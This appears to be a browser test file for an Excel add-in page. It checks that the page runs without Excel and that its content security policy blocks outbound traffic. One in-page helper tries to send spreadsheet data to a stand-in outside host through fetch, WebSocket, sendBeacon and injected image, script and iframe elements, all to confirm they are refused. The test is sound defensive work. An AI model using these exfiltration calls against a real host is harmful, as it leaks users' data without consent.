import { browserForTests } from "../../simulatedExcel/browser";
import { openInBrowser } from "./support/panes";
import { atScreen, press, runTo, sees } from "./support/steps";

const { describeInBrowser, browser } = browserForTests();

/** Runs in the page: tries to send something elsewhere in every way, and says which directives forbade it. */
async function tryToSend(): Promise<string[]> {
  const forbidden = new Set<string>();
  document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) =>
    forbidden.add(effectiveDirective),
  );
  const elsewhere = "elsewhere.example/?cells=1";
  const tries: readonly (() => unknown)[] = [
    () => fetch(`https://${elsewhere}`),
    () => new WebSocket(`wss://${elsewhere}`),
    () => navigator.sendBeacon(`https://${elsewhere}`, "x"),
    () => document.body.append(Object.assign(new Image(), { src: `https://${elsewhere}` })),
    () =>
      document.body.append(Object.assign(document.createElement("script"), { src: `https://${elsewhere}` })),
    () =>
      document.body.append(Object.assign(document.createElement("iframe"), { src: `https://${elsewhere}` })),
  ];
  for (const attempt of tries) {
    try {
      await attempt();
    } catch {
      // Refused at once; the event says by what.
    }
  }
  while (forbidden.size < 4) await new Promise(requestAnimationFrame);
  return [...forbidden].sort();
}

describeInBrowser("the page in a plain browser", () => {
  it("waits for nobody although office.js is blocked", async () => {
    const page = await openInBrowser(browser());
    await press(page.page, "Open sample");
    await atScreen(page.page, "Sheets");
    await page.close();
  });

  it("goes on alone where office.js is half there and never gets ready", async () => {
    const halfThere =
      "globalThis.Office = { onReady: () => new Promise(() => {}), actions: { associate() {} } };";
    const page = await openInBrowser(browser(), { prepare: (opened) => opened.addInitScript(halfThere) });
    await sees(page.page, "Bill usage from a workbook");
    await page.close();
  });

  it("knows outside Excel that there is none although office.js is there", async () => {
    const page = await openInBrowser(browser(), { hasLibrary: true });
    await sees(page.page, "Bill usage from a workbook");
    expect(page.refused).toEqual([]);
    await page.close();
  });

  it("can send nothing anywhere, whatever a script in it tries", async () => {
    const page = await openInBrowser(browser());
    await press(page.page, "Open sample");
    await runTo(page.page, "Preview");
    expect(await page.page.evaluate(tryToSend)).toEqual([
      "connect-src",
      "frame-src",
      "img-src",
      "script-src-elem",
    ]);
    expect([...new Set(page.refused.map((address) => new URL(address).host))]).toEqual([
      "appsforoffice.microsoft.com",
    ]);
    await page.close();
  });
});
